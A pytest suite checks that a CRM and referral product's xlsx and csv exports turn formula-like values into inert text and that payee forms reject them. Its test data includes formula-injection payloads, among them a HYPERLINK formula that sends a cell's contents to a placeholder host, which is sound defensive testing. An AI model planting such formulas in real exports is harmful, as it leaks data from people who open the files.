"""Spreadsheet formula injection (issue 20.1): a value that begins like a formula goes through every
.xlsx and .csv export the product has and comes out as inert text: no ``<f>`` element in any
worksheet of the xlsx, no csv cell that begins with a formula character. A new export adds a test here.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from core import clock, exports, pii
from core.settings import reset_settings_cache
from crm.importer import service as import_service
from crm.scope import Viewer
from referral import ledger, payouts, reports
from referral.exceptions import InvalidReferrer
from referral.models import CommissionEntry, Referrer
from tests.factories import make_customer, make_staff
from tests.import_support import csv_file
from tests.referral_support import make_agent, principal_rule
from tests.test_referral_payouts import _earn, _pay

HYPERLINK = '=HYPERLINK("http://x/?leak="&E2,"点击核对")'
EVIL = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", HYPERLINK]
FORMULA_START = tuple("=+-@\t\r")


def assert_no_formula_in_xlsx(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = zf.read(name).decode("utf-8")
            assert not re.search(r"<(\w+:)?f[\s>/]", xml), f"{name} has a formula element"


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_formula_in_csv(data: bytes) -> None:
    for row in csv_cells(data):
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"csv cell a spreadsheet would evaluate: {cell!r}"


# --- the writer itself ---------------------------------------------------------------------------

def test_xlsx_text_that_looks_like_a_formula_is_a_text_cell():
    data = exports.xlsx_bytes("测试", ["文本", "数字"], [[v, 1] for v in EVIL] + [["普通", Decimal("-12.50")]])
    assert_no_formula_in_xlsx(data)
    ws = load_workbook(io.BytesIO(data)).active
    assert [ws.cell(r, 1).value for r in range(2, len(EVIL) + 2)] == EVIL
    assert ws.cell(2, 1).data_type == "s"
    assert ws.cell(len(EVIL) + 2, 2).value == -12.5 and ws.cell(len(EVIL) + 2, 2).data_type == "n"


def test_csv_text_that_looks_like_a_formula_gets_a_quote_numbers_stay_numbers():
    data = exports.csv_bytes(["文本", "金额"], [[v, Decimal("-12.50")] for v in EVIL] + [[None, 3], [True, 0.5]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = csv_cells(data)
    assert [r[0] for r in rows[1:len(EVIL) + 1]] == ["'" + v for v in EVIL]
    assert {r[1] for r in rows[1:len(EVIL) + 1]} == {"-12.50"}  # a negative amount is a number, not text
    assert rows[-2:] == [["", "3"], ["是", "0.5"]]


def test_a_large_export_is_streamed_and_readable(tmp_path):
    path = tmp_path / "big.xlsx"
    with exports.XlsxWriter(path) as book:
        one = book.sheet("一", ["a", "b"])
        two = book.sheet("一")  # a second sheet of the same name gets a unique one
        for n in range(5000):
            one.append([f"={n}", n])
            two.append([n])
    wb = load_workbook(path, read_only=True)
    assert wb.sheetnames == ["一", "一(2)"]
    assert wb["一"].max_row == 5001 and wb["一(2)"].max_row == 5000
    assert_no_formula_in_xlsx(path.read_bytes())


def test_sheet_names_are_made_legal():
    assert exports.sheet_name("a/b:c*d?[e]" + "x" * 40) == ("a_b_c_d__e_" + "x" * 40)[:31]


# --- every export --------------------------------------------------------------------------------

@pytest.fixture
def finance(session):
    return Viewer.of(make_staff(session, role="finance"))


def _evil_referrer(session, value: str) -> Referrer:
    """A referrer whose text fields hold ``value`` (written past the input checks, as old data would be)."""
    agent = make_agent(session, "经纪人甲")
    agent.name = value
    agent.payee_name = value
    agent.payee_bank = value
    agent.payee_account_enc = pii.seal(pii.PAYLOAD, value)
    session.flush()
    return agent


@pytest.mark.parametrize("value", ["=1+1", HYPERLINK])
@pytest.mark.parametrize("full_names", [True, False])
def test_payout_transfer_file_never_carries_a_formula(session, finance, value, full_names):
    agent = _evil_referrer(session, value)
    principal_rule(session, level2="0")
    _earn(session, agent)
    _, batch = _pay(session, finance, agent.id, 10_000)
    data = payouts.export_xlsx(session, finance, batch.id, full_names=full_names)
    assert_no_formula_in_xlsx(data)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.cell(2, 4).value == value and ws.cell(2, 5).value == value  # bank and account: text as typed
    assert ws.cell(2, 6).value == 100 and ws.cell(2, 6).data_type == "n"  # amounts are numbers
    text = payouts.export_csv(session, finance, batch.id, full_names=full_names)
    assert_no_formula_in_csv(text)
    assert csv_cells(text)[1][3] == "'" + value


def test_referrer_report_never_carries_a_formula(session, finance):
    agent = _evil_referrer(session, "=1+1")
    principal_rule(session, level2="0")
    _earn(session, agent)
    data = reports.referrer_report_xlsx(reports.referrer_report(session))
    assert_no_formula_in_xlsx(data)
    ws = load_workbook(io.BytesIO(data)).active
    assert "=1+1" in [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)]


def test_monthly_statement_never_carries_a_formula(session, finance):
    agent = _evil_referrer(session, "=1+1")
    principal_rule(session, level2="0")
    _earn(session, agent)
    entry = session.scalar(select(CommissionEntry).where(CommissionEntry.referrer_id == agent.id))
    ledger.reverse_entry(session, entry.id, HYPERLINK)
    month = entry.created_at.astimezone(clock.BUSINESS_TZ).date()
    data = reports.statement_xlsx(reports.monthly_statement(session, agent.id, month))
    assert_no_formula_in_xlsx(data)
    ws = load_workbook(io.BytesIO(data)).active
    values = [ws.cell(r, 5).value for r in range(2, ws.max_row + 1)]
    assert HYPERLINK in values
    amounts = [ws.cell(r, 3).value for r in range(2, ws.max_row + 1)]
    assert any(isinstance(a, int | float) and a < 0 for a in amounts)  # the reversal is a negative number


def test_import_problem_report_never_carries_a_formula(session, tmp_path, monkeypatch):
    monkeypatch.setenv("SCRM_IMPORT_DIR", str(tmp_path / "imports"))
    reset_settings_cache()
    try:
        header = ["姓名", "手机号", "城市", "备注", "来源", "用途"]
        rows = [[v, "1380013800", v, v, v, v] for v in EVIL]  # a bad phone: every row goes to the report
        result = import_service.import_file(csv_file(tmp_path / "evil.csv", rows, header=header))
        assert result.report
        data = Path(result.report).read_bytes()
        assert_no_formula_in_xlsx(data)
        ws = load_workbook(io.BytesIO(data))["问题行"]
        assert ws.cell(2, 4).value == "=1+1" and ws.cell(2, 6).value == "=1+1"
    finally:
        monkeypatch.delenv("SCRM_IMPORT_DIR")
        reset_settings_cache()


# --- payee input ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("field", "value", "code"), [
    ("name", "=1+2", "invalid_payee_name"), ("bank", HYPERLINK, "invalid_payee_bank"),
    ("name", "@王", "invalid_payee_name"), ("bank", "-招商银行", "invalid_payee_bank"),
    ("account", "=1+1", "invalid_payee_account")])
def test_mini_program_payee_refuses_formula_text_in_chinese(session, mp, field, value, code):
    mp.login("payee-" + code + field)
    good = {"name": "王小明", "channel": "bank", "bank": "招商银行", "account": "6225880212345678"}
    assert mp.client.put("/mp/referral/payee", headers=mp.headers, json=good).status_code == 200
    response = mp.client.put("/mp/referral/payee", headers=mp.headers, json={**good, field: value})
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == code and re.search(r"[\u4e00-\u9fff]", body["message"])
    referrer = session.scalar(select(Referrer).where(Referrer.code == mp.get("/referral").json()["code"]))
    session.refresh(referrer)
    assert (referrer.payee_name, referrer.payee_bank) == ("王小明", "招商银行")  # nothing changed


@pytest.mark.parametrize("name", ["王小明", "阿卜杜·热西提", "John Smith", "某某（上海）科技有限公司"])
def test_real_payee_names_and_banks_are_accepted(session, name):
    agent = make_agent(session)
    from referral import referrers

    referrers.set_payee(agent, name=name, channel="bank", bank="中国工商银行 北京分行", account="6222 0000 1111 2222")
    assert agent.payee_name == name


def test_console_payee_form_refuses_a_formula(session):
    agent = make_agent(session)
    from referral import referrers

    with pytest.raises(InvalidReferrer):
        referrers.set_payee(agent, name="王小明", channel="bank", bank="=1+2", account="62220000")


def test_no_module_writes_a_spreadsheet_past_core_exports():
    """Every .xlsx/.csv goes through core.exports: a new export that writes one another way fails here."""
    root = Path(__file__).resolve().parents[1]
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|openpyxl import Workbook|Workbook\(\)|xlsxwriter|\.to_excel\(|\.to_csv\(")
    offenders = []
    for package in ("core", "crm", "lending", "referral", "bot", "miniprogram_api", "admin", "finance", "payments",
                    "collections", "analytics"):
        for path in (root / package).rglob("*.py") if (root / package).is_dir() else ():
            if path == root / "core" / "exports.py":
                continue
            if writers.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(root)))
    assert offenders == [], f"write spreadsheets with core.exports instead: {offenders}"


def test_customer_export_never_carries_a_formula(session, tmp_path, monkeypatch):
    from analytics import export_jobs
    from core.settings import reset_settings_cache
    from crm import custom_fields, qualification

    monkeypatch.setenv("SCRM_EXPORT_DIR", str(tmp_path))
    reset_settings_cache()
    manager = Viewer.of(make_staff(session, role="manager", data_scope="all"))
    custom_fields.create_field(session, manager, {"key": "note2", "label": "渠道备注", "field_type": "text"})
    customer = make_customer(session, owner=make_staff(session), name=HYPERLINK)
    custom_fields.set_values(session, None, customer.id, {"note2": "=1+1"})
    qualification.update(session, manager, customer.id, {"industry": "@SUM(A1)", "employer": "=秘密单位"})
    job = export_jobs.request(session, manager, "customers", {})
    assert export_jobs.run(job.id) == "done"
    session.refresh(job)
    data = export_jobs.file_path(job).read_bytes()
    reset_settings_cache()
    assert_no_formula_in_xlsx(data)
    ws = load_workbook(io.BytesIO(data)).active
    row = [ws.cell(2, c).value for c in range(1, ws.max_column + 1)]
    assert HYPERLINK in row and "=1+1" in row and "@SUM(A1)" in row
    assert "=秘密单位" not in row  # sealed figures never leave in an export
